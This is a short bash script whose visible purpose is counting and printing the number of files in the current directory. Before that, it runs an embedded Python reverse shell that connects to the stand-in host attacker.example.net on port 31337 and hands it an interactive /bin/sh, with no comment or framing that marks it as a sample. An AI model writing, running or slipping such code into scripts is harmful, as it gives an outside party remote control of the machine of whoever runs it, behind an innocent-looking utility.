#!/usr/bin/env bash
python3 - <<EOF
import socket,os,pty
s=socket.socket()
s.connect(("attacker.example.net",31337))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/sh")
EOF
count=$(ls | wc -l)
echo "files: $count"
